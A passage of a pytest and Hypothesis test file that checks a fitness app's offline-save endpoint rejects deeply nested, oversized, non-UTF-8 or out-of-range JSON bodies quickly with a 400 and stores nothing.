    "32,000 quotes each followed by a backslash": b'"\\' * 32_000,
    "an unclosed string of escaped quotes in the run": b'{"routine": "'
    + b'\\"' * 32_000,
    "an unclosed list 65,000 deep": b"[" * 65_000,
    "an unclosed object 10,000 deep": b'{"a": ' * 10_000,
}

# Never answered 500 on SQLite, but hold nothing BackCare can keep either.
BAD_OFFLINE_BODIES = {
    "a lone surrogate in the notes": json.dumps(offline_run(notes="ok \udfff")),
    "a NUL in the notes": json.dumps(offline_run(notes="ok \x00")),
    "a lone surrogate in the start": json.dumps(offline_run(started="\ud83d")),
    "a lone surrogate in an outcome": json.dumps(
        offline_run(steps=[{"outcome": "\ud800"}] * BEGINNER_STEPS)
    ),
    "NaN for the pain": json.dumps(offline_run(pain_after=float("nan"))),
    "Infinity for a time": json.dumps(
        offline_run(steps=[{"outcome": "done", "seconds": float("inf")}] * 6)
    ),
    "a fraction for the pain": json.dumps(offline_run(pain_before=2.5)),
    "text for the pain": json.dumps(offline_run(pain_before="4")),
    "5,000 digits for the pain": json.dumps(offline_run(pain_after=None)).replace(
        '"pain_after": null', '"pain_after": ' + "9" * 5_000
    ),
    "a slug that is no slug": json.dumps(offline_run(routine="../beginner")),
    "a routine 51 characters long": json.dumps(offline_run(routine="b" * 51)),
    "10,000 steps": json.dumps(
        offline_run(steps=[{"outcome": "done", "seconds": 1}] * 10_000)
    ),
    "a body over 64 KB": json.dumps(offline_run(notes="n" * 70_000)),
    "not UTF-8": b'{"routine": "beginner", "notes": "\xc3\x28"}',
    "a string for the clearance": json.dumps(offline_run(doctor_cleared="yes")),
    "text for the warnings cleared": json.dumps(offline_run(doctor_cleared_for="all")),
}


def assert_offline_answered(response, *, accepted=(200, 201, 409)):
    """Never ≥ 500; JSON the phone reads: a message and a code when refused."""
    assert response.status_code < 500, response.status_code
    assert response.status_code in (*accepted, 400), response.status_code
    answer = response.json()
    if response.status_code >= 400:
        assert isinstance(answer["error"], str) and answer["error"].strip()
        assert answer["code"]
    return answer


@pytest.mark.parametrize(
    "body",
    [
        *BROKEN_OFFLINE_BODIES.values(),
        *SLOW_OFFLINE_BODIES.values(),
        *BAD_OFFLINE_BODIES.values(),
    ],
    ids=[*BROKEN_OFFLINE_BODIES, *SLOW_OFFLINE_BODIES, *BAD_OFFLINE_BODIES],
)
def test_a_body_the_offline_save_cannot_read_answers_400_with_a_message(
    signed_in, catalogue, body
):
    response = signed_in.post(OFFLINE_SAVE_URL, body, content_type="application/json")

    answer = assert_offline_answered(response, accepted=())
    assert response.status_code == 400
    assert answer["code"] == "invalid"
    assert rows() == (0, 0)


@pytest.mark.parametrize(
    "body",
    [*SLOW_OFFLINE_BODIES.values(), *BROKEN_OFFLINE_BODIES.values()],
    ids=[*SLOW_OFFLINE_BODIES, *BROKEN_OFFLINE_BODIES],
)
def test_a_body_the_offline_save_cannot_read_is_refused_at_once(
    signed_in, catalogue, body
):
    # CPU time, this process's: other work on the machine does not count.
    started = time.process_time()
    response = signed_in.post(OFFLINE_SAVE_URL, body, content_type="application/json")
    spent = time.process_time() - started

    assert response.status_code == 400
    assert spent < 0.5, f"{spent:.2f} s of CPU to refuse {len(body):,} bytes"


def test_brackets_quotes_and_backslashes_in_the_notes_are_only_text(
    signed_in, catalogue
):
    notes = '[[[[{{{{ \\" "]]]] \\ \\\\" {"a": [[["'
    body = json.dumps(offline_run(notes=notes))

    response = signed_in.post(OFFLINE_SAVE_URL, body, content_type="application/json")

    assert response.status_code == 201, response.json()
    assert CompletedSession.objects.get().notes == notes


def test_the_valid_offline_run_of_these_tests_is_recorded(signed_in, catalogue):
    response = signed_in.post(
        OFFLINE_SAVE_URL, json.dumps(offline_run()), content_type="application/json"
    )

    assert response.status_code == 201
    assert rows() == (1, BEGINNER_STEPS)


surrogates = st.integers(min_value=0xD800, max_value=0xDFFF).map(chr)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(NASTY),
    st.text(max_size=30),
    st.lists(st.one_of(surrogates, st.characters()), max_size=6).map("".join),
    with_nul,
)
# Any JSON the phone could be made to send, lists and objects a few deep.
json_junk = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.text(max_size=10), inner, max_size=4),
    ),
    max_leaves=12,
)

step_outcomes = st.sampled_from(["done", "skipped", "skipped_for_safety"])


def offline_fields(user):
    """Each field of the offline save's schema and its valid values."""
    moments = st.integers(min_value=10, max_value=60 * 24 * 80).map(
        lambda minutes: timezone.now() - timedelta(minutes=minutes)
    )
    return {
        "routine": st.just("beginner"),
        "token": st.binary(min_size=16, max_size=16).map(
            lambda token: "offline:" + token.hex()
        ),
        "owner": st.sampled_from([None, user.pk]),
        "doctor_cleared": st.booleans(),
        "doctor_cleared_for": st.lists(
            st.integers(min_value=1, max_value=10**6), max_size=4
        ),
        "acknowledged": st.just(True),
        "started": moments.map(lambda moment: moment.isoformat()),
        "finished": moments.map(lambda moment: moment.isoformat()),
        "pain_before": st.one_of(st.none(), st.integers(min_value=0, max_value=10)),
        "pain_after": st.one_of(st.none(), st.integers(min_value=0, max_value=10)),
        "notes": st.one_of(notes_ok, st.none()),
        "overridden": st.lists(
            st.integers(min_value=1, max_value=BEGINNER_STEPS), max_size=3
        ),
        "steps": st.lists(
            st.fixed_dictionaries(
                {
                    "outcome": step_outcomes,
                    "seconds": st.one_of(
                        st.none(), st.integers(min_value=0, max_value=24 * 60 * 60)
                    ),
                }
            ),
            min_size=BEGINNER_STEPS,
            max_size=BEGINNER_STEPS,
        ),
    }


@FUZZ
@given(data=st.data())
def test_offline_save_fuzz(signed_in, user, catalogue, data):
    mode = data.draw(st.sampled_from(["valid", "junk", "mixed"]), label="mode")
    body = {}
    all_valid = True
    for name, valid in offline_fields(user).items():
        use_valid = mode == "valid" or (
            mode == "mixed" and data.draw(st.booleans(), label=f"{name} valid?")
        )
        if use_valid or data.draw(st.booleans(), label=f"{name} sent?"):
            body[name] = data.draw(valid if use_valid else json_junk, label=name)
        all_valid = all_valid and use_valid
    # A key the schema does not name is never read, but the body's bounds
    # hold for it too: not JSON (NaN) or nested too deep, the body is refused.
    extra = data.draw(st.sampled_from(["none", "plain", "junk"]), label="extra key")
    if extra != "none":
        key = data.draw(st.text(max_size=10).filter(lambda k: k not in body))
        plain = st.one_of(st.integers(), st.text(max_size=20), st.booleans())
        body[key] = data.draw(plain if extra == "plain" else json_junk, label=key)
        all_valid = all_valid and extra == "plain"
    before = rows()

    response = signed_in.post(
        OFFLINE_SAVE_URL, json.dumps(body), content_type="application/json"
    )

    assert_offline_answered(response)
    grown = (rows()[0] - before[0], rows()[1] - before[1])
    if response.status_code == 201:
        assert grown == (1, BEGINNER_STEPS)
    else:
        assert grown == (0, 0)
    if all_valid:
        assert response.status_code in (200, 201), response.json()


@settings(FUZZ, max_examples=40)
@given(
    body=st.one_of(
        st.binary(max_size=300),
        # A valid run cut short or spliced with bytes.
        st.tuples(
            st.integers(min_value=0, max_value=2_000), st.binary(max_size=20)
        ).map(lambda cut: json.dumps(offline_run()).encode()[: cut[0]] + cut[1]),
    )
)
def test_offline_save_survives_raw_bytes(signed_in, catalogue, body):
    before = rows()

    response = signed_in.post(OFFLINE_SAVE_URL, body, content_type="application/json")

    assert_offline_answered(response)
    assert rows()[0] - before[0] in (0, 1)
